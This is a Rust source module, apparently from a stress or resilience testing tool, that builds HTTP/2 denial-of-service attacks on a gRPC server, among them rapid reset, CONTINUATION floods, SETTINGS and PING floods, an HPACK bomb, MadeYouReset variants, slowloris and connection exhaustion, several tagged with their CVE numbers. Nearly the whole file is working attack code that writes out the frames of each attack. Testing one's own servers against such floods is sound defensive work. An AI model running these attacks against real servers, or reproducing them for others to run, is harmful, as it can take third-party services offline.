//! The attacks: what each connection begins with, and what it goes on with until the server has enough.

use std::time::Duration;

use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, LARGEST, PING, RST_STREAM,
    WINDOW_UPDATE, again, frame, literal, preface, remembered, settings,
};

/// Frames of a flood that are written at once.
const BATCH: usize = 256;
/// As many streams as the edge lets a connection have.
const STREAMS: u32 = 128;

/// Large answers of a connection: few, for it is not their making that is measured.
const LARGE: u32 = 32;

/// Whom the requests of an attack are for.
#[derive(Clone)]
pub struct Victim {
    pub authority: String,
    /// The path of a small call.
    pub small: &'static str,
    /// A call with a large answer: its path and its request, as a gRPC message.
    pub large: (&'static str, Vec<u8>),
    /// Of a person with an account: who has none is answered earlier, and costs less.
    pub authorization: String,
}

/// Adds frames; the number is the next stream that was not opened yet. Answers how many frames.
type Write = fn(&Victim, &mut u32, &mut Vec<u8>) -> u64;

#[derive(Clone)]
pub struct Attack {
    pub name: &'static str,
    /// Connections at once. One that the server closed is made anew.
    pub connections: usize,
    /// After the preface; None: not even that is said.
    pub opening: Option<Write>,
    /// Again and again; None: silence.
    pub then: Option<Write>,
    pub pause: Duration,
    /// Whether it reads what is answered.
    pub reads: bool,
    pub settings: &'static [(u16, u32)],
}

impl Attack {
    const fn flood(name: &'static str, then: Write) -> Self {
        let (opening, settings) = (Some(nothing as Write), &[] as &[(u16, u32)]);
        Self { name, connections: 4, opening, then: Some(then), pause: Duration::ZERO, reads: true, settings }
    }

    const fn hold(name: &'static str, connections: usize, opening: Write) -> Self {
        let opening = Some(opening);
        Self { name, connections, opening, then: None, pause: Duration::ZERO, reads: true, settings: &[] }
    }

    /// What a connection begins with, and how many frames that are.
    pub fn begin(&self, victim: &Victim, next: &mut u32) -> (Vec<u8>, u64) {
        let Some(opening) = self.opening else { return (Vec::new(), 0) };
        let mut out = preface(self.settings);
        let frames = opening(victim, next, &mut out);
        (out, 1 + frames)
    }
}

/// All of them.
pub fn all() -> Vec<Attack> {
    vec![
        Attack { opening: Some(first_request), ..Attack::flood("rapid reset (CVE-2023-44487)", open_and_reset) },
        Attack::flood("endless headers (CVE-2024-27316)", endless_headers),
        Attack::flood("endless empty CONTINUATION", endless_nothing),
        Attack::flood("SETTINGS flood", settings_flood),
        Attack { reads: false, ..Attack::flood("SETTINGS flood, answers not read (CVE-2019-9515)", settings_flood) },
        Attack::flood("PING flood", ping_flood),
        Attack { reads: false, ..Attack::flood("PING flood, answers not read (CVE-2019-9512)", ping_flood) },
        Attack::flood("empty DATA flood (CVE-2019-9518)", empty_data),
        Attack {
            settings: &[(INITIAL_WINDOW_SIZE, 0)],
            ..Attack::hold("slow read: large answers, no window", 4, large_calls)
        },
        Attack { opening: Some(bomb_fuse), ..Attack::flood("HPACK bomb", bomb) },
        Attack::flood("headers of 24 KiB", |victim, next, out| large_headers(victim, next, out, 24)),
        Attack::flood("headers of 60 KiB", |victim, next, out| large_headers(victim, next, out, 60)),
        Attack::flood("MadeYouReset (CVE-2025-8671): WINDOW_UPDATE of 0", window_of_nothing),
        Attack::flood("MadeYouReset: WINDOW_UPDATE past the largest", window_too_large),
        Attack::flood("MadeYouReset: DATA after the end", data_after_the_end),
        Attack::flood("MadeYouReset: HEADERS after the end", headers_after_the_end),
        Attack::hold("half a request", 20, half_requests),
        Attack {
            then: Some(drop_by_drop),
            pause: Duration::from_millis(500),
            ..Attack::hold("slow DATA (slowloris)", 20, half_requests)
        },
        Attack::hold("2,000 idle connections", 2_000, nothing),
        Attack { opening: None, ..Attack::hold("2,000 connections that say nothing", 2_000, nothing) },
    ]
}

/// The headers of a request, by `add`.
fn request(victim: &Victim, path: &str, add: fn(&mut Vec<u8>, &str, &str)) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", &victim.authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", &victim.authorization),
    ] {
        add(&mut block, name, value);
    }
    block
}

fn nothing(_: &Victim, _: &mut u32, _: &mut Vec<u8>) -> u64 {
    0
}

/// A request whose headers need a byte each from then on.
fn first_request(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    frame(out, HEADERS, END_HEADERS | END_STREAM, *next, &request(victim, victim.small, remembered));
    *next += 2;
    1
}

fn open_and_reset(_: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    let mut block = Vec::new();
    (62..=68).rev().for_each(|index| again(&mut block, index));
    for _ in 0..BATCH / 4 {
        frame(out, HEADERS, END_HEADERS | END_STREAM, *next, &block);
        frame(out, RST_STREAM, 0, *next, &8_u32.to_be_bytes());
        *next += 2;
    }
    2 * (BATCH / 4) as u64
}

/// The first frame opens a stream, if none is open; the headers never end.
fn endless_headers(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    let mut block = Vec::new();
    while block.len() < LARGEST - 100 {
        literal(&mut block, "x-more", "of this");
    }
    endless(victim, next, out, &block)
}

fn endless_nothing(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    endless(victim, next, out, &[])
}

fn endless(victim: &Victim, next: &mut u32, out: &mut Vec<u8>, block: &[u8]) -> u64 {
    if *next == 1 {
        frame(out, HEADERS, END_STREAM, 1, &request(victim, victim.small, literal));
        *next = 3;
    }
    (0..16).for_each(|_| frame(out, CONTINUATION, 0, 1, block));
    16
}

/// Each has to be acknowledged, and changes the windows of all streams.
fn settings_flood(_: &Victim, _: &mut u32, out: &mut Vec<u8>) -> u64 {
    (0..BATCH as u32).for_each(|size| settings(out, &[(INITIAL_WINDOW_SIZE, 65_535 - size % 2)]));
    BATCH as u64
}

fn ping_flood(_: &Victim, _: &mut u32, out: &mut Vec<u8>) -> u64 {
    (0..BATCH).for_each(|_| frame(out, PING, 0, 0, &[7; 8]));
    BATCH as u64
}

fn empty_data(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    if *next == 1 {
        half_request(victim, next, out);
    }
    (0..BATCH).for_each(|_| frame(out, DATA, 0, 1, &[]));
    BATCH as u64
}

/// With a window of nothing no answer leaves the server.
fn large_calls(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    let block = request(victim, victim.large.0, literal);
    for _ in 0..LARGE {
        frame(out, HEADERS, END_HEADERS, *next, &block);
        frame(out, DATA, END_STREAM, *next, &victim.large.1);
        *next += 2;
    }
    u64::from(2 * LARGE)
}

/// A header of almost the whole table...
fn bomb_fuse(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    let mut block = request(victim, victim.small, literal);
    remembered(&mut block, "x-large", &"x".repeat(3_900));
    frame(out, HEADERS, END_HEADERS | END_STREAM, *next, &block);
    *next += 2;
    1
}

/// ...which one byte names: 8 KiB are 32 MB.
fn bomb(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    let mut block = request(victim, victim.small, literal);
    (0..8_192).for_each(|_| again(&mut block, 62));
    for _ in 0..8 {
        frame(out, HEADERS, END_HEADERS | END_STREAM, *next, &block);
        *next += 2;
    }
    8
}

fn large_headers(victim: &Victim, next: &mut u32, out: &mut Vec<u8>, kibibytes: usize) -> u64 {
    let mut block = request(victim, victim.small, literal);
    (0..kibibytes).for_each(|_| literal(&mut block, "x-large", &"x".repeat(1_000)));
    for _ in 0..4 {
        let mut parts = block.chunks(LARGEST).peekable();
        let first = parts.next().unwrap_or_default();
        let flags = if parts.peek().is_none() { END_HEADERS } else { 0 };
        frame(out, HEADERS, END_STREAM | flags, *next, first);
        while let Some(part) = parts.next() {
            let flags = if parts.peek().is_none() { END_HEADERS } else { 0 };
            frame(out, CONTINUATION, flags, *next, part);
        }
        *next += 2;
    }
    4 * block.len().div_ceil(LARGEST) as u64
}

/// Calls, each followed by what makes the server reset it: its work goes on, and it does not count the stream any more.
fn made_you_reset(victim: &Victim, next: &mut u32, out: &mut Vec<u8>, wrong: fn(&mut Vec<u8>, u32)) -> u64 {
    const CALLS: u64 = 32;
    let block = request(victim, victim.small, literal);
    for _ in 0..CALLS {
        frame(out, HEADERS, END_HEADERS | END_STREAM, *next, &block);
        wrong(out, *next);
        *next += 2;
    }
    2 * CALLS
}

fn window_of_nothing(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    made_you_reset(victim, next, out, |out, stream| frame(out, WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()))
}

fn window_too_large(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    made_you_reset(victim, next, out, |out, stream| {
        frame(out, WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
    })
}

fn data_after_the_end(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    made_you_reset(victim, next, out, |out, stream| frame(out, DATA, 0, stream, &[0]))
}

fn headers_after_the_end(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    made_you_reset(victim, next, out, |out, stream| {
        let mut block = Vec::new();
        literal(&mut block, "x-more", "of this");
        frame(out, HEADERS, END_HEADERS, stream, &block);
    })
}

fn half_request(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) {
    frame(out, HEADERS, END_HEADERS, *next, &request(victim, victim.small, literal));
    *next += 2;
}

fn half_requests(victim: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    (0..STREAMS).for_each(|_| half_request(victim, next, out));
    u64::from(STREAMS)
}

/// One byte more for each stream.
fn drop_by_drop(_: &Victim, next: &mut u32, out: &mut Vec<u8>) -> u64 {
    (1..*next).step_by(2).for_each(|stream| frame(out, DATA, 0, stream, &[0]));
    u64::from(*next / 2)
}

/// A peer's settings and pings are answered, also by who attacks: else it would be cut off for that.
pub fn polite(kind: u8, flags: u8, payload: &[u8], out: &mut Vec<u8>) {
    use super::frames::SETTINGS;
    if flags & ACK == 0 && (kind == SETTINGS || kind == PING) {
        frame(out, kind, ACK, 0, if kind == PING { payload } else { &[] });
    }
}
